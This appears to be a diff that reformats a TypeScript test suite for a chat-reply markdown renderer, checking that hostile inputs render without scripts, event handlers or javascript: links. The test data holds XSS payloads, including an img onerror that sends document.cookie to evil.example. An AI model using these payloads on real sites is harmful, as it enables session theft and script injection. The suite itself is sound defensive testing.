@@ -32,7 +32,11 @@ const HOSTILE: Hostile[] = [
   { name: 'script tag split over lines', input: '<script\n>alert(1)</script\n>', shown: ['<script', '>alert(1)</script'], links: 0 },
   // event handlers in raw HTML
   { name: 'img onerror', input: '<img src=x onerror=alert(1)>', links: 0 },
-  { name: 'img onerror with quotes', input: '<img src="x" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">', shown: ['<img src="x" onerror="fetch('] },
+  {
+    name: 'img onerror with quotes',
+    input: '<img src="x" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
+    shown: ['<img src="x" onerror="fetch('],
+  },
   { name: 'svg onload', input: '<svg onload=alert(1)>', links: 0 },
   { name: 'body onload', input: '<body onload=alert(1)>', links: 0 },
   { name: 'a href=# onclick', input: '<a href=# onclick="alert(1)">click me</a>', links: 0 },
@@ -93,13 +97,32 @@ const HOSTILE: Hostile[] = [
   { name: 'bold in link text, javascript url', input: '[**x**](javascript:alert(1))', links: 0, shown: ['x', '(javascript:alert(1))'] },
   { name: 'good link followed by javascript parens', input: '[x](https://ok.example)(javascript:alert(1))', links: 1, shown: ['(javascript:alert(1))'] },
   { name: 'link in bold, javascript url', input: '**[x](javascript:)**', links: 0, shown: ['[x](javascript:)'] },
-  { name: 'link inside link text', input: '[a [b](javascript:alert%281%29) c](https://ok.example)', shown: ['javascript:alert%281%29', 'c](https://ok.example)'] },
+  {
+    name: 'link inside link text',
+    input: '[a [b](javascript:alert%281%29) c](https://ok.example)',
+    shown: ['javascript:alert%281%29', 'c](https://ok.example)'],
+  },
   { name: 'link as link text', input: '[[x](https://ok.example)](javascript:alert%281%29)', links: 1, shown: ['](javascript:alert%281%29)'] },
   { name: 'image inside link', input: '[![a](https://attacker.example/i.png)](javascript:alert%281%29)', shown: ['(javascript:alert%281%29)'] },
-  { name: 'code span hiding a link', input: '`[x](javascript:alert(1))` [y](javascript:alert%281%29)', links: 0, shown: ['[x](javascript:alert(1))', '[y](javascript:alert%281%29)'] },
-  { name: 'fenced HTML', input: '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```', links: 0, shown: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'] },
+  {
+    name: 'code span hiding a link',
+    input: '`[x](javascript:alert(1))` [y](javascript:alert%281%29)',
+    links: 0,
+    shown: ['[x](javascript:alert(1))', '[y](javascript:alert%281%29)'],
+  },
+  {
+    name: 'fenced HTML',
+    input: '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
+    links: 0,
+    shown: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'],
+  },
   { name: 'heading with HTML', input: '# <img src=x onerror=alert(1)>', links: 0, shown: ['<img src=x onerror=alert(1)>'] },
-  { name: 'list item with HTML', input: '- <script>alert(1)</script>\n1. <iframe src=//evil.example>', links: 0, shown: ['<script>alert(1)</script>', '<iframe src=//evil.example>'] },
+  {
+    name: 'list item with HTML',
+    input: '- <script>alert(1)</script>\n1. <iframe src=//evil.example>',
+    links: 0,
+    shown: ['<script>alert(1)</script>', '<iframe src=//evil.example>'],
+  },
   // entities that decode to markup
   { name: 'entity-encoded script', input: '&lt;script&gt;alert(1)&lt;/script&gt;', links: 0 },
   { name: 'numeric entities for img', input: '&#60;img src=x onerror=alert(1)&#62;', links: 0 },
@@ -112,10 +135,19 @@ const HOSTILE: Hostile[] = [
   // Trailing controls are trimmed (as a browser does), leaving a plain web link.
   { name: 'control character at the end of a link url', input: '[x](https://ok.example/\u0001)', links: 1, shown: ['x'] },
   // size and nesting
-  { name: '300 KB of mixed markdown (many lines)', input: fill(MIXED_LINES, 300_000), shown: ['<img src=x onerror=alert(1)>', '<b>code</b>', '[j](javascript:alert(1))'] },
+  {
+    name: '300 KB of mixed markdown (many lines)',
+    input: fill(MIXED_LINES, 300_000),
+    shown: ['<img src=x onerror=alert(1)>', '<b>code</b>', '[j](javascript:alert(1))'],
+  },
   { name: '10,000 levels of *', input: `${'*'.repeat(10_000)}a${'*'.repeat(10_000)}`, shown: ['a'] },
   { name: '10,000 levels of _', input: `${'_'.repeat(10_000)}a${'_'.repeat(10_000)}`, shown: ['a'] },
-  { name: '10,000 levels of [', input: `${'['.repeat(10_000)}x${'](javascript:alert%281%29)'.repeat(10_000)}`, links: 0, shown: ['x](javascript:alert%281%29)'] },
+  {
+    name: '10,000 levels of [',
+    input: `${'['.repeat(10_000)}x${'](javascript:alert%281%29)'.repeat(10_000)}`,
+    links: 0,
+    shown: ['x](javascript:alert%281%29)'],
+  },
   { name: '10,000 levels of mixed * _ [', input: `${'*_['.repeat(10_000)}x${'](https://ok.example)_*'.repeat(10_000)}`, shown: ['x'] },
   { name: '10,000 levels of bold', input: `${'**'.repeat(10_000)}a${'**'.repeat(10_000)}`, shown: ['a'] },
   { name: '100,000 unmatched **', input: '**'.repeat(100_000), shown: ['**'] },
@@ -123,7 +155,12 @@ const HOSTILE: Hostile[] = [
   // (At the start of a line 100,000 backticks open a code fence; after text they are inline.)
   { name: '100,000 unmatched `', input: `x${'`'.repeat(100_000)}`, links: 0 },
   { name: '25,000 x "**[`" on one line', input: '**[`'.repeat(25_000), links: 0, shown: ['[`'] },
-  { name: 'very long single line ending in script', input: `${'word '.repeat(60_000)}<script>alert(1)</script>`, links: 0, shown: ['<script>alert(1)</script>'] },
+  {
+    name: 'very long single line ending in script',
+    input: `${'word '.repeat(60_000)}<script>alert(1)</script>`,
+    links: 0,
+    shown: ['<script>alert(1)</script>'],
+  },
 ]
 
 /** Whitespace and line structure are rendered as elements, not text: compare without them. */
@@ -138,35 +175,39 @@ describe('hostile replies', () => {
     expect(new Set(HOSTILE.map((c) => c.input)).size).toBe(HOSTILE.length)
   })
 
-  it.each(HOSTILE)('$name', ({ input, shown, links }) => {
-    const vnodes = renderMarkdown(input)
-    expect(vnodeViolations(vnodes)).toEqual([])
+  it.each(HOSTILE)(
+    '$name',
+    ({ input, shown, links }) => {
+      const vnodes = renderMarkdown(input)
+      expect(vnodeViolations(vnodes)).toEqual([])
 
-    const container = renderInto(input)
-    expect(domViolations(container)).toEqual([])
+      const container = renderInto(input)
+      expect(domViolations(container)).toEqual([])
 
-    // The explicit checks the contract names, stated on their own as well
-    // (getElementsByTagName: happy-dom's querySelectorAll stops at 65,538 matches).
-    const all = Array.from(container.getElementsByTagName('*'))
-    const allowed = new Set(['DIV', 'P', 'BR', 'STRONG', 'EM', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'A'])
-    expect([...new Set(all.map((el) => el.tagName))].filter((tag) => !allowed.has(tag))).toEqual([])
-    expect(all.flatMap((el) => el.getAttributeNames().filter((name) => /^on/i.test(name)))).toEqual([])
-    expect(container.getElementsByTagName('div')).toHaveLength(1)
-    for (const tag of FORBIDDEN_SELECTOR.split(',')) expect(container.getElementsByTagName(tag)).toHaveLength(0)
-    const anchors = Array.from(container.getElementsByTagName('a'))
-    expect(
-      anchors.filter(
-        (link) =>
-          link.getAttribute('target') !== '_blank' ||
-          link.getAttribute('rel') !== 'noopener noreferrer nofollow ugc' ||
-          !/^(?:https?|mailto|tel):/i.test(link.getAttribute('href') ?? ''),
-      ),
-    ).toEqual([])
-    if (links !== undefined) expect(anchors).toHaveLength(links)
+      // The explicit checks the contract names, stated on their own as well
+      // (getElementsByTagName: happy-dom's querySelectorAll stops at 65,538 matches).
+      const all = Array.from(container.getElementsByTagName('*'))
+      const allowed = new Set(['DIV', 'P', 'BR', 'STRONG', 'EM', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'A'])
+      expect([...new Set(all.map((el) => el.tagName))].filter((tag) => !allowed.has(tag))).toEqual([])
+      expect(all.flatMap((el) => el.getAttributeNames().filter((name) => /^on/i.test(name)))).toEqual([])
+      expect(container.getElementsByTagName('div')).toHaveLength(1)
+      for (const tag of FORBIDDEN_SELECTOR.split(',')) expect(container.getElementsByTagName(tag)).toHaveLength(0)
+      const anchors = Array.from(container.getElementsByTagName('a'))
+      expect(
+        anchors.filter(
+          (link) =>
+            link.getAttribute('target') !== '_blank' ||
+            link.getAttribute('rel') !== 'noopener noreferrer nofollow ugc' ||
+            !/^(?:https?|mailto|tel):/i.test(link.getAttribute('href') ?? ''),
+        ),
+      ).toEqual([])
+      if (links !== undefined) expect(anchors).toHaveLength(links)
 
-    const text = flat(container.textContent ?? '')
-    for (const fragment of shown ?? [input]) expect(text).toContain(flat(fragment))
-  }, 60_000)
+      const text = flat(container.textContent ?? '')
+      for (const fragment of shown ?? [input]) expect(text).toContain(flat(fragment))
+    },
+    60_000,
+  )
 
   // More than about 120,000 inline pieces on one line overflow the call stack
   // (withBreaks spreads them into push). Rendering that many elements into
@@ -175,16 +216,20 @@ describe('hostile replies', () => {
     { name: '300 KB of *a on one line', input: fill('*a', 300_000), tag: 'em', count: 75_000 },
     { name: '300 KB of `a` inline code on one line', input: fill('`a` ', 300_000), tag: 'code', count: 75_000 },
     { name: '300 KB of **a** on one line', input: fill('**a**', 300_000), tag: 'strong', count: 60_000 },
-  ])('$name: renders without throwing, every piece safe', ({ input, tag, count }) => {
-    let vnodes: ReturnType<typeof renderMarkdown> = []
-    expect(() => {
-      vnodes = renderMarkdown(input)
-    }).not.toThrow()
-    expect(vnodeViolations(vnodes)).toEqual([])
-    expect(vnodes).toHaveLength(1)
-    const children = (vnodes[0] as { props: { children: Array<string | { type: string }> } }).props.children
-    expect(children.filter((child) => typeof child !== 'string' && child.type === tag)).toHaveLength(count)
-  }, 60_000)
+  ])(
+    '$name: renders without throwing, every piece safe',
+    ({ input, tag, count }) => {
+      let vnodes: ReturnType<typeof renderMarkdown> = []
+      expect(() => {
+        vnodes = renderMarkdown(input)
+      }).not.toThrow()
+      expect(vnodeViolations(vnodes)).toEqual([])
+      expect(vnodes).toHaveLength(1)
+      const children = (vnodes[0] as { props: { children: Array<string | { type: string }> } }).props.children
+      expect(children.filter((child) => typeof child !== 'string' && child.type === tag)).toHaveLength(count)
+    },
+    60_000,
+  )
 
   it('the checks used above do catch unsafe markup', () => {
     // Guard against a vacuous suite: the same checks must flag a DOM that is unsafe.
